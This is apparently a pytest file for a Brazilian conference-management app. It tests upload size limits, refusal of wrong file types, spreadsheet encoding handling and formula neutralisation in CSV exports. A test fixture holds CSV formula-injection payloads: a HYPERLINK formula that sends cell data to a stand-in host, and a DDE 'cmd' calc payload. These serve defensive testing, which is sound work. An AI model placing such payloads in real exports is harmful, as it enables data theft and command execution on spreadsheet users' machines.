"""Uploads (the participants' CSV import and the report import): the size limit answers 413 with
a message that names it, other types and binary content are refused with a message, the
encodings municipal spreadsheets come in are read right (UTF-8 with and without BOM, Latin-1,
Windows-1252), and the CSV exports neutralise spreadsheet formulas.
"""

from __future__ import annotations

import csv
import html
import io
import re

import pytest
import sqlalchemy as sa
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from app.auth.models import User
from app.conferences.models import Eixo
from app.conferences.phases import Phase
from app.proposals.models import Proposal
from app.reports.render import FORMULA_PREFIXES, safe_cell, to_csv
from tests.security.world import SECRETARY
from tests.views.helpers import attr, tag

LIMIT_MESSAGE = "passa do tamanho máximo permitido (2 MB)"


def import_url(seeded) -> str:
    return f"/conferencias/{seeded.world.a.slug}/gestao/inscricoes/importar"


def report_import_url(seeded) -> str:
    return f"/conferencias/{seeded.world.a.slug}/gestao/relatorio/importar/"


def multipart(raw: bytes, name: str) -> dict:
    """The request arguments of a file upload, encoded in memory (werkzeug's test client would
    spool a large body to a temporary file that it leaves for the garbage collector to close)."""
    boundary, body = encode_multipart({"file": FileStorage(io.BytesIO(raw), filename=name)})
    return {"data": body, "content_type": f"multipart/form-data; boundary={boundary}"}


def send(client, url: str, raw: bytes, name: str):
    return client.post(url, **multipart(raw, name))


def page_text(response) -> str:
    return html.unescape(response.get_data(as_text=True))


# --- the size limit ---------------------------------------------------------------------------

@pytest.mark.parametrize("which", ["participants", "report"])
def test_an_upload_over_the_limit_is_a_413_with_a_message_and_writes_nothing(seeded, which):
    assert seeded.app.config["MAX_CONTENT_LENGTH"] == 2 * 1024 * 1024
    url = import_url(seeded) if which == "participants" else report_import_url(seeded)
    raw = b"nome;e-mail;segmento\n" + b"Ana;ana@exemplo.org;usuario\n" * 80_000  # 2.2 MB
    assert len(raw) > seeded.app.config["MAX_CONTENT_LENGTH"]
    with seeded.undone():
        before = seeded.fingerprint()
        response = send(seeded.client(SECRETARY), url, raw, "grande.csv" if which == "participants" else "r.json")
        assert response.status_code == 413
        page = page_text(response)
        assert "<h1>Arquivo grande demais</h1>" in page and LIMIT_MESSAGE in page
        assert "Traceback" not in page
        assert seeded.fingerprint() == before


def test_a_file_just_under_the_limit_is_read_and_refused_politely(seeded):
    """1.9 MB of rows: more than the 5,000 rows an import takes; a message, not a crash."""
    raw = b"nome;e-mail;segmento\n" + b"".join(b"Pessoa %d;p%d@exemplo.org;usuario\n" % (i, i) for i in range(52_000))
    assert 1.8 * 1024 * 1024 < len(raw) < 2 * 1024 * 1024
    response = seeded.request(SECRETARY, "POST", import_url(seeded), **multipart(raw, "lista.csv"))
    assert response.status_code == 200  # the preview page, with the file's problem
    assert "O arquivo tem mais de 5000 linhas." in page_text(response) or "5.000" in page_text(response)


# --- types -----------------------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"


@pytest.mark.parametrize(("raw", "name", "message"), [
    (PNG, "foto.png", "O arquivo precisa ser uma planilha salva como CSV (.csv)."),
    (PNG, "planilha.csv", "O arquivo não parece ser uma planilha CSV (tem conteúdo binário)."),
    (b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", "planilha.xlsx",
     "O arquivo precisa ser uma planilha salva como CSV (.csv)."),
    (b"", "vazio.csv", "O cabeçalho precisa ter as colunas"),
])
def test_other_types_and_binary_content_are_refused_with_a_message(seeded, raw, name, message):
    with seeded.undone():
        before = seeded.fingerprint()
        response = send(seeded.client(SECRETARY), import_url(seeded), raw, name)
        assert response.status_code in (200, 422)
        assert message in page_text(response)
        assert seeded.fingerprint() == before


@pytest.mark.parametrize(("raw", "name", "message"), [
    (PNG, "foto.png", "O arquivo não está em UTF-8"),
    (b"\xff\xfe{\x00}\x00", "relatorio.json", "O arquivo não está em UTF-8"),
    (b"nome;e-mail\nAna;ana@exemplo.org\n", "relatorio.json", ""),
])
def test_the_report_import_refuses_what_is_not_a_report(seeded, raw, name, message):
    with seeded.undone(phase=Phase.DEBATE):
        as_state_conference(seeded)  # municipal conferences do not import reports
        before = seeded.fingerprint()
        response = send(seeded.client(SECRETARY), report_import_url(seeded), raw, name)
        assert response.status_code == 422
        page = page_text(response)
        assert message in page and 'class="field-error"' in page
        assert seeded.fingerprint() == before


def as_state_conference(seeded) -> None:
    seeded.connection.execute(sa.text("UPDATE conferences SET sphere = 'estadual', municipio = NULL, "
                                      "ibge_code = NULL WHERE id = :id"), {"id": seeded.world.a.conference_id})


# --- encodings ---------------------------------------------------------------------------------

ROWS = [
    ("Maria da Conceição", "maria.conceicao@exemplo.org", "usuário", "", "delegado"),
    ("João Gonçalves Araújo", "joao@exemplo.org", "Trabalhador", "", ""),
    ("Irmã Dulce", "dulce@exemplo.org", "entidade", "Associação Ação Social", "observadora"),
]
CP1252_ONLY = ("Zé “Mãos Dadas” – Silva", "ze@exemplo.org", "usuario", "", "")  # curly quotes and dash


def spreadsheet(rows, delimiter: str = ";") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(["Nome", "E-mail", "Segmento", "Organização", "Credencial"])
    writer.writerows(rows)
    return out.getvalue()


@pytest.mark.parametrize(("encoding", "delimiter", "extra"), [
    ("utf-8", ";", [CP1252_ONLY]),
    ("utf-8-sig", ",", [CP1252_ONLY]),  # Excel's "CSV UTF-8" (with BOM)
    ("latin-1", ";", []),  # ISO-8859-1 has no curly quotes
    ("cp1252", ";", [CP1252_ONLY]),  # Excel's "CSV" on Windows in Brazil
])
def test_the_preview_reads_each_encoding_right(seeded, encoding, delimiter, extra):
    rows = ROWS + extra
    raw = spreadsheet(rows, delimiter).encode(encoding)
    with seeded.undone():
        client = seeded.client(SECRETARY)
        response = send(client, import_url(seeded), raw, "participantes.csv")
        assert response.status_code == 200
        page = page_text(response)
        for name, *_ in rows:
            assert f"<td>{name}</td>" in page, (encoding, name)
        assert "Ã§" not in page and "Ã£" not in page  # no mojibake ("ConceiÃ§Ã£o")
        assert f"{len(rows)} linhas prontas para importar" in page
        # Confirming writes the names as they were typed in the spreadsheet.
        csv_text = attr(tag(response.get_data(as_text=True), name="csv_text"), "value")
        done = client.post(import_url(seeded) + "/confirmar", data={"csv_text": csv_text})
        assert done.status_code == 302
        names = set(seeded.connection.execute(sa.select(User.display_name).where(
            User.email.in_([r[1] for r in rows]))).scalars())
        assert names == {r[0] for r in rows}


# --- CSV exports neutralise formulas --------------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("https://malicioso.example/?x="&A1;"Clique")',
    "final_wording": "@SUM(1+1)*cmd|' /C calc'!A0",
    "eixo": "+55 (11) 9999-0000",
    "body": "-2+3",
}


def assert_neutralised(body: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(body)))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), cell
    return rows


def test_report_csv_exports_neutralise_formulas(seeded):
    a = seeded.world.a
    with seeded.undone():
        seeded.connection.execute(sa.update(Proposal).where(Proposal.id == a.proposal_ids["closed"]).values(
            title=FORMULAS["title"], final_wording=FORMULAS["final_wording"]))
        seeded.connection.execute(sa.update(Eixo).where(Eixo.id == a.eixo_ids[0]).values(title=FORMULAS["eixo"]))
        client = seeded.client(SECRETARY)
        draft = client.get(f"/conferencias/{a.slug}/gestao/relatorio/rascunho.csv")
        assert draft.status_code == 200 and draft.mimetype == "text/csv"
        rows = assert_neutralised(draft.get_data(as_text=True))
        cells = {cell for row in rows[1:] for cell in row}
        assert "'" + FORMULAS["title"] in cells and "'" + FORMULAS["final_wording"] in cells
        assert "'" + FORMULAS["eixo"] in cells
        # Published as version 2, the public CSV (rendered from the frozen JSON) is neutralised too.
        # (The open and draft rounds leave their proposals pending: take them out of the rounds.)
        pending = [a.rounds["open"], a.rounds["draft"]]
        seeded.connection.execute(sa.text("DELETE FROM round_items WHERE round_id IN (:o, :d)"),
                                  {"o": pending[0], "d": pending[1]})
        seeded.connection.execute(sa.update(Proposal).where(Proposal.id.in_(
            [a.proposal_ids["open"], a.proposal_ids["draft"]])).values(state="submitted"))
        seeded.connection.execute(sa.text("UPDATE conferences SET phase = 'closed' WHERE id = :id"),
                                  {"id": a.conference_id})
        published = client.post(f"/conferencias/{a.slug}/gestao/relatorio/publicar", data={"note": "Fórmulas."})
        assert published.status_code == 302, published.get_data(as_text=True)[:2000]
        public = seeded.client().get(f"/conferencias/{a.slug}/relatorio/v2.csv")
        assert public.status_code == 200
        public_rows = assert_neutralised(public.get_data(as_text=True))
        assert public_rows == rows
        json_text = seeded.client().get(f"/conferencias/{a.slug}/relatorio/v2.json").get_data(as_text=True)
        assert FORMULAS["title"].replace('"', '\\"') in json_text  # the data itself is kept as written


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "=", "@"])
def test_safe_cell_quotes_every_formula_start(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Texto", "1", "", None, " =1", "E1-M-01", "'já citado"])
def test_safe_cell_leaves_plain_text(value):
    assert safe_cell(value) == ("" if value is None else value)


def test_the_csv_renderer_applies_it_to_every_column():
    deliberation = dict.fromkeys(("code", "eixo_title", "sphere", "title", "text"), "=evil()")
    deliberation.update({"eixo": 1, "votes": {"yes": 1, "no": 0, "abstain": 0, "round": "=r()",
                                                "in_person": {"yes": 0, "no": 0, "abstain": 0}},
                         "forwarded": False, "origin": {"code": "-o"}})
    body = to_csv({"deliberations": [deliberation]})
    rows = assert_neutralised(body)
    assert rows[1].count("'=evil()") == 5 and "'=r()" in rows[1] and "'-o" in rows[1]


def test_no_other_csv_export_exists(app):
    """Every CSV the app serves goes through app.reports.render.to_csv (checked above): the only
    CSV routes are the report downloads."""
    csv_rules = sorted(r.rule for r in app.url_map.iter_rules() if "csv" in r.rule)
    assert csv_rules == [
        "/conferencias/<slug>/gestao/relatorio/rascunho.<any(pdf, csv, json):fmt>",
        "/conferencias/<slug>/relatorio/ultima.<any(pdf, csv, json):fmt>",
        "/conferencias/<slug>/relatorio/v<int:version>.<any(pdf, csv, json):fmt>",
    ]
    source = "".join(p.read_text() for p in __import__("pathlib").Path(app.root_path).rglob("*.py"))
    assert len(re.findall(r"csv\.(?:writer|DictWriter)\(", source)) == 1  # the one in render.py


# --- regressions found by the fuzzing (tests/security/test_fuzz_forms.py) --------------------------

def test_a_cell_past_the_csv_modules_limit_is_a_message_not_a_500(seeded):
    """Python's csv module refuses cells over 128 KiB (csv.Error): the preview and the
    confirmation both answer with a message."""
    raw = b"nome;e-mail;segmento\n" + b"x" * 140_000 + b";a@exemplo.org;usuario\n"
    with seeded.undone():
        before = seeded.fingerprint()
        client = seeded.client(SECRETARY)
        preview = send(client, import_url(seeded), raw, "lista.csv")
        assert preview.status_code == 422
        assert "Não foi possível ler a planilha a partir da linha 2" in page_text(preview)
        confirm = client.post(import_url(seeded) + "/confirmar", data={"csv_text": raw.decode()})
        assert confirm.status_code == 302 and confirm.headers["Location"].endswith("/inscricoes/importar")
        assert seeded.fingerprint() == before


def test_a_multipart_part_without_a_name_is_not_a_500(seeded):
    """werkzeug files a part whose Content-Disposition has no name under the key None."""
    body = (b"--frontera\r\nContent-Disposition: form-data\r\n\r\nsem nome\r\n"
            b'--frontera\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n'
            b"nome;e-mail;segmento\r\nAna;ana@exemplo.org;usuario\r\n--frontera--\r\n")
    response = seeded.request(SECRETARY, "POST", import_url(seeded), data=body,
                              content_type="multipart/form-data; boundary=frontera")
    assert response.status_code == 200 and "1 linha pronta para importar" in page_text(response)
